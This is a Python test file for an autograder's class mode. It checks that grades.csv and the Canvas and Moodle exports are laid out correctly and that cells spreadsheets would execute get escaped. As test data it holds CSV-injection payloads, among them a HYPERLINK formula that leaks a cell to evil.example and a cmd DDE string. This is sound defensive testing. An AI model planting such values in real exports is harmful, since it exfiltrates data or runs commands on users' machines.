"""What class mode hands to spreadsheets and gradebooks: grades.csv and the exports.

Class mode runs with a fake grader here (each student scores what their folder's
``score.txt`` says), so what comes out is the files' layout and nothing else.
"""

from __future__ import annotations

import csv
import sys
from pathlib import Path

import pytest

from grader.runners.classmode import classroom, sheets

FAKE = r'''
import json, sys
from pathlib import Path
sub = Path(sys.argv[1])
points = float((sub / "score.txt").read_text()) if (sub / "score.txt").is_file() else 3.0
Path(sys.argv[2]).write_text(json.dumps({"score": points + 4, "max_score": 7, "tests": [
    {"name": "causal_mask (chapter 1)", "score": points, "max_score": 3, "output": "ok"},
    {"name": "attention (chapter 2)", "score": 4, "max_score": 4, "output": "ok"}]}))
'''
EXERCISES = ("causal_mask", "attention")
HOSTILE = '=HYPERLINK("https:\\\\evil.example?"&A1,"open")'  # a folder name: no slash


@pytest.fixture
def fake(tmp_path):
    script = tmp_path / "fake_grader.py"
    script.write_text(FAKE)
    return lambda sub, results, seed, extra: [sys.executable, str(script), str(sub), str(results)]


def hand_in(subs: Path, name: str, points: float = 3.0) -> None:
    (subs / name).mkdir(parents=True)
    (subs / name / "ex.py").write_text("def causal_mask(n):\n    pass\n")
    (subs / name / "score.txt").write_text(str(points))


def run_class(tmp_path: Path, fake, *args: str) -> Path:
    out = tmp_path / "out"
    assert classroom.main([str(tmp_path / "subs"), "--out", str(out), "--seed", "1", "--no-progress",
                           "--no-report", *args], command=fake, exercises=EXERCISES) == 0
    return out


def cells(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


@pytest.mark.parametrize("text", [HOSTILE, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_cell_that_a_spreadsheet_would_run_is_escaped(text):
    assert sheets.cell(text) == "'" + text


@pytest.mark.parametrize("text", ["alice", "-0.5", "12", "", "a=b"])
def test_names_and_numbers_stay_as_they_are(text):
    assert sheets.cell(text) == text


def test_a_folder_named_like_a_formula_is_text_in_grades_csv(tmp_path, fake):
    hand_in(tmp_path / "subs", HOSTILE)
    hand_in(tmp_path / "subs", "bob")
    rows = cells(run_class(tmp_path, fake) / "grades.csv")
    assert [r[0] for r in rows[1:]] == ["'" + HOSTILE, "bob"]
    assert not any(c.startswith(sheets.FORMULA_STARTS) for r in rows for c in r if not _number(c))


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


# --------------------------------------------------------------------------- gradebook exports

#: Canvas's gradebook import: these five columns, in this order, then one column per assignment
#: (Canvas's "Import grades" help page; its own gradebook export has the same header).
CANVAS = ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]


def export(out: Path, *args: str) -> list[list[str]]:
    from grader.runners.platforms import export as export_mod

    target = out / "export.csv"
    assert export_mod.main([str(out), *args, "--out", str(target)]) == 0
    return cells(target)


def test_canvas_without_a_roster_names_each_student_by_their_folder(tmp_path, fake):
    for name, points in (("ann", 3), ("bob", 1.5), ("cy", 0)):
        hand_in(tmp_path / "subs", name, points)
    rows = export(run_class(tmp_path, fake), "--format", "canvas", "--assignment", "Masks (812)")
    assert rows[0] == [*CANVAS, "Masks (812)"]
    assert rows[1:] == [["ann", "", "", "ann", "", "7"], ["bob", "", "", "bob", "", "5.5"],
                        ["cy", "", "", "cy", "", "4"]]


def test_canvas_with_its_own_roster_fills_its_students_in_and_leaves_the_rest(tmp_path, fake):
    for name, points in (("ann", 3), ("bob", 1.5), (HOSTILE, 0)):
        hand_in(tmp_path / "subs", name, points)
    roster = tmp_path / "canvas.csv"  # as Canvas exports it: a "Points Possible" line, a test student
    roster.write_text("Student,ID,SIS User ID,SIS Login ID,Section,Masks (812)\n"
                      "    Points Possible,,,,,100\n"
                      "\"Lee, Ann\",101,S-1,ann,Sec A,\n"
                      "\"Roe, Bob\",102,S-2,BOB,Sec B,\n"
                      "\"Poe, Dee\",103,S-3,dee,Sec A,\n"
                      "\"Student, Test\",999,,,,\n")
    rows = export(run_class(tmp_path, fake), "--format", "canvas", "--roster", str(roster),
                  "--assignment", "Masks (812)")
    assert rows[0] == [*CANVAS, "Masks (812)"]
    assert rows[1:] == [["Lee, Ann", "101", "S-1", "ann", "Sec A", "7"],
                        ["Roe, Bob", "102", "S-2", "BOB", "Sec B", "5.5"],
                        ["Poe, Dee", "103", "S-3", "dee", "Sec A", ""]]  # no submission: left as it is


def test_moodle_is_an_identifier_and_a_grade_from_the_class_roster(tmp_path, fake):
    for name, points in (("ann", 3), ("bob", 1.5)):
        hand_in(tmp_path / "subs", name, points)
    roster = tmp_path / "roster.csv"
    roster.write_text("id,name,folder\nann@uni.edu,Ann Lee,ann\nbob@uni.edu,Bob Roe,bob\n"
                      "dee@uni.edu,Dee Poe,\n")
    out = run_class(tmp_path, fake, "--roster", str(roster))
    assert export(out, "--format", "moodle") == [["identifier", "Attention masks"], ["ann@uni.edu", "7"],
                                                 ["bob@uni.edu", "5.5"], ["dee@uni.edu", "0"]]
    assert export(out, "--format", "csv")[1:] == [
        ["ann", "ann@uni.edu", "Ann Lee", "7", "7", "graded"],
        ["bob", "bob@uni.edu", "Bob Roe", "5.5", "7", "graded"],
        ["dee@uni.edu", "dee@uni.edu", "Dee Poe", "0", "7", "missing"]]


def test_moodle_without_a_roster_uses_the_folder_name_and_escapes_it(tmp_path, fake):
    hand_in(tmp_path / "subs", HOSTILE, 3)
    assert export(run_class(tmp_path, fake), "--format", "moodle")[1] == ["'" + HOSTILE, "7"]


def test_a_folder_without_a_class_run_is_one_clear_message(tmp_path):
    from grader.runners.platforms import export as export_mod

    with pytest.raises(SystemExit, match="no class-run.json"):
        export_mod.main([str(tmp_path), "--format", "canvas"])
